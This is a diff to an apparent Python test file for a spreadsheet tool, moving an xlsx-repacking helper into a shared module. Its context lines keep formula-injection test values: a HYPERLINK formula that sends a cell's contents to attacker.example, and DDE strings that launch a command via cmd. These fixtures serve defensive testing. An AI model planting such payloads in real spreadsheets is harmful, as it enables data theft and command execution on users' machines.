@@ -22,6 +22,7 @@ import sqlalchemy as sa
 from openpyxl import Workbook, load_workbook
 from sqlalchemy.engine import Engine
 from typer.testing import CliRunner
+from xlsx_parts import MAIN, repack
 
 from messages import workbook as text
 from models import Office, Person
@@ -38,7 +39,6 @@ from tidtam.workbook.template import headers
 from tidtam.workbook.text_cells import append_row
 
 START = datetime(2026, 10, 1, 2, 0, tzinfo=UTC)
-MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 EVIL_NAME = '=HYPERLINK("http://attacker.example/?c="&E2,"คลิกเพื่อยืนยัน")'
 EVIL_POSITION = "+cmd|' /C calc'!A0"
 EVIL_OFFICE = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -370,26 +370,7 @@ def xlsx_with_sheet(
     close = "</" + root[1:].split()[0].rstrip(">") + ">"
     data_tag = "x:sheetData" if root.startswith("<x:") else "sheetData"
     sheet = f'<?xml version="1.0" encoding="UTF-8"?>\n{root}<{data_tag}>{rows_xml}</{data_tag}>{close}'
-    strings = "".join(f"<si><t>{s}</t></si>" for s in shared)
-    with zipfile.ZipFile(base) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
-        for item in src.infolist():
-            data = src.read(item.filename)
-            if item.filename == "xl/worksheets/sheet1.xml":
-                data = sheet.encode()
-            elif item.filename == "[Content_Types].xml":
-                data = data.replace(
-                    b"</Types>",
-                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
-                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
-                )
-            elif item.filename == "xl/_rels/workbook.xml.rels":
-                data = data.replace(
-                    b"</Relationships>",
-                    b'<Relationship Id="rIdSS" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-                    b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
-                )
-            out.writestr(item.filename, data, zipfile.ZIP_DEFLATED)
-        out.writestr("xl/sharedStrings.xml", f'<sst xmlns="{MAIN}">{strings}</sst>', zipfile.ZIP_DEFLATED)
+    repack(base, path, sheet, shared)
     base.unlink()
     return path
 
